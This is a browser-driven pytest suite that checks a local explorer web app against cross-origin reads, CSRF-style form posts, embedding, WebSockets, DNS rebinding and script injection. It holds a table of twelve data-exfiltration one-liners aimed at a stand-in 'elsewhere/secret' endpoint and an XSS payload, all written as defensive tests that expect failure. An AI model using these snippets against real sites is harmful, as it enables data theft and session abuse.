"""What pages of others can do to the explorer, in a real browser: nothing. And the page itself talks to nobody else."""

import json

import pytest
from browser.conftest import REBOUND

READ = "/api/v1/workspaces"


@pytest.fixture(autouse=True)
def _nothing_may_come(explored):
    explored.requests.clear()
    yield
    assert [] == explored.requests


FETCHES = {
    "plain": {},
    "without CORS": {"mode": "no-cors"},
    "with the token": {"headers": {"x-paiflow-token": "TOKEN"}},
    "with the token and without CORS": {"mode": "no-cors", "headers": {"x-paiflow-token": "TOKEN"}},
    "with cookies": {"credentials": "include"},
    "a form": {"method": "POST", "mode": "no-cors", "body": "a=b"},
    "as text": {"method": "POST", "body": json.dumps({"kind": "python", "method": "GET", "url": READ})},
    "a put": {"method": "PUT", "body": "{}", "headers": {"content-type": "application/json"}},
}


@pytest.mark.parametrize("name", FETCHES)
def test_a_page_of_another_origin_can_read_nothing(attacker, explored, name):
    options = json.loads(json.dumps(FETCHES[name]).replace("TOKEN", explored.address.token))
    script = """async ([url, options]) => {
        try { const reply = await fetch(url, options); return reply.type === "opaque" ? "opaque" : await reply.text(); }
        catch (error) { return "refused"; }
    }"""

    for path in (READ, "/-/sample", "/-/description", "/", "/page/explorer.js"):
        assert attacker.evaluate(script, [explored.address.url + path, options]) in ("opaque", "refused")


@pytest.mark.parametrize("tag", ["img", "script", "iframe", "link", "object", "video"])
def test_no_tag_of_another_page_loads_it(attacker, explored, tag):
    script = """([tag, url]) => new Promise((resolve) => {
        const element = document.createElement(tag);
        if (tag === "link") element.rel = "stylesheet";
        element.onload = () => {
            if (tag !== "iframe" && tag !== "object") return resolve("loaded");
            try { resolve(element.contentDocument ? "empty" : "refused"); } catch { resolve("refused"); }
        };
        element.onerror = () => resolve("refused");
        element[{ link: "href", object: "data" }[tag] || "src"] = url;
        document.body.append(element);
    })"""
    for path in ("/", "/page/explorer.js", "/page/explorer.css", READ):
        assert attacker.evaluate(script, [tag, explored.address.url + path]) in ("refused", "empty")
    assert [] == [frame.url for frame in attacker.frames if frame.url.startswith(explored.address.url)]


def test_a_form_of_another_page_does_nothing(attacker, explored):
    with attacker.expect_navigation():
        attacker.evaluate(
            """(url) => {
                const form = document.createElement("form");
                Object.assign(form, { method: "post", action: url, enctype: "text/plain" });
                document.body.append(form);
                form.submit();
            }""",
            f"{explored.address.url}/api/v1/pipelines",
        )

    assert "Explorer.Origin" in attacker.inner_text("body")


def test_a_link_of_another_page_does_not_lead_there(attacker, explored):
    with attacker.expect_navigation():
        attacker.evaluate("(url) => { location = url }", explored.address.page)

    assert "Explorer.Site" in attacker.inner_text("body")


def test_a_window_that_another_page_opened_is_out_of_its_reach(attacker, explored):
    with attacker.expect_popup() as popup:
        attacker.evaluate("(url) => { window.opened = window.open(url) }", explored.address.page)
    popup.value.wait_for_load_state()

    assert "Explorer.Site" in popup.value.inner_text("body")


def test_a_socket_of_another_page_is_refused(attacker, explored):
    script = """(url) => new Promise((resolve) => {
        const socket = new WebSocket(url);
        socket.onopen = () => resolve("open");
        socket.onerror = () => resolve("refused");
    })"""

    assert "refused" == attacker.evaluate(script, explored.address.url.replace("http", "ws") + READ)


@pytest.mark.parametrize("name", [REBOUND, "localhost"])
def test_a_name_that_was_rebound_to_this_machine_is_refused(browser, explored, name):
    """The page came from somebody else's server; then its name led to the explorer, which is its own origin by then."""
    page = browser.new_page()
    url = explored.address.url.replace("127.0.0.1", name)
    page.route(f"{url}/start", lambda route: route.fulfill(content_type="text/html", body="<!doctype html>"))
    page.goto(f"{url}/start")
    script = "async ([url, token]) => (await fetch(url, { headers: { 'x-paiflow-token': token } })).json()"
    replies = [page.evaluate(script, [url + path, explored.address.token]) for path in (READ, "/-/description", "/")]
    page.close()

    assert ["Explorer.Host"] * 3 == [reply["Code"] for reply in replies]


WAYS_OUT = {
    "fetch": "fetch(url, { mode: 'no-cors' })",
    "beacon": "navigator.sendBeacon(url, 'x')",
    "image": "new Image().src = url",
    "socket": "new WebSocket(url.replace('http', 'ws'))",
    "events": "new EventSource(url)",
    "script": "document.head.append(Object.assign(document.createElement('script'), { src: url }))",
    "style": "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url }))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: url }))",
    "font": "new FontFace('x', `url(${url})`).load().catch(() => {})",
    "form": "(() => { const f = Object.assign(document.createElement('form'), { action: url, method: 'post' });"
    " document.body.append(f); f.submit(); })()",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url }))",
    "worker": "(() => { try { new Worker(url) } catch {} })()",
}


@pytest.mark.parametrize("way", WAYS_OUT)
def test_the_page_can_call_nobody_else(browser, explored, elsewhere, way):
    """Even code that got into the page could send nothing out."""
    page = browser.new_page()
    page.goto(explored.address.page)
    page.evaluate(f"(url) => {{ try {{ {WAYS_OUT[way]} }} catch {{}} }}", f"{elsewhere.url}/secret")
    # One that is allowed, after it: when it has come, the other would have too.
    page.evaluate("fetch('/page/explorer.css').then((reply) => reply.text())")
    page.wait_for_timeout(100)
    page.close()

    assert [] == elsewhere.came


def test_code_that_got_into_the_page_as_text_does_not_run(browser, explored):
    page = browser.new_page()
    page.goto(explored.address.page)
    page.evaluate(
        """() => {
            document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='window.hacked = 1'>");
            document.body.append(Object.assign(document.createElement("script"), { textContent: "window.hacked = 1" }));
        }"""
    )
    page.wait_for_timeout(100)
    hacked = page.evaluate("window.hacked")
    page.close()

    assert hacked is None
